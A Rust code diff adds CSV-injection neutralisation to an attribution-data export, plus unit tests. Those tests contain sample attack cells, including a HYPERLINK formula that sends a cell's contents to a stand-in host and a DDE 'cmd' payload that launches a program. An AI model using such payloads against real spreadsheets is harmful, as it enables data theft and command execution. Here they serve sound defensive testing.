@@ -31,13 +31,28 @@ const HEADER: &str = "id,type,name,timestamp,received_at,day,device_id,gaid,idfa
 adgroup,creative,link_id,click_id,network_click_id,revenue_amount,revenue_currency,revenue,install_status,reattribution,\
 reinstall,reengagement,fraud_reason\n";
 
+/// A cell a spreadsheet would run as a formula — one starting with `=`, `+`, `-`, `@`, tab or
+/// carriage return (OWASP, "CSV Injection") — gets a leading `'` so it is shown as text. A
+/// plain number (a negative revenue, say) is left as it is: it is no formula.
+fn neutralised(value: &str) -> std::borrow::Cow<'_, str> {
+    match value.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') if value.parse::<f64>().is_err() => {
+            std::borrow::Cow::Owned(format!("'{value}"))
+        }
+        _ => std::borrow::Cow::Borrowed(value),
+    }
+}
+
+/// One cell and its separator: neutralised, then quoted when it holds a separator, a quote
+/// or a line break (RFC 4180).
 fn field(out: &mut String, value: &str) {
+    let value = neutralised(value);
     if value.contains([',', '"', '\n', '\r']) {
         out.push('"');
         out.push_str(&value.replace('"', "\"\""));
         out.push('"');
     } else {
-        out.push_str(value);
+        out.push_str(&value);
     }
     out.push(',');
 }
@@ -174,4 +189,33 @@ pub async fn export(
     }
     headers.insert(header::CACHE_CONTROL, HeaderValue::from_static("no-store"));
     Ok(response)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::field;
+
+    fn cell(value: &str) -> String {
+        let mut out = String::new();
+        field(&mut out, value);
+        out.pop();
+        out
+    }
+
+    #[test]
+    fn formula_cells_are_neutralised_and_numbers_kept() {
+        assert_eq!(
+            cell("=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"x\")"),
+            "\"'=HYPERLINK(\"\"http://example.invalid/?d=\"\"&A1,\"\"x\"\")\""
+        );
+        assert_eq!(cell("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
+        assert_eq!(cell("-2+3"), "'-2+3");
+        assert_eq!(cell("@SUM(A1)"), "'@SUM(A1)");
+        assert_eq!(cell("\t=1"), "'\t=1");
+        assert_eq!(cell("\r=1"), "\"'\r=1\"");
+        assert_eq!(cell("-1.5"), "-1.5");
+        assert_eq!(cell("+44"), "+44");
+        assert_eq!(cell("purchase"), "purchase");
+        assert_eq!(cell(""), "");
+    }
 }
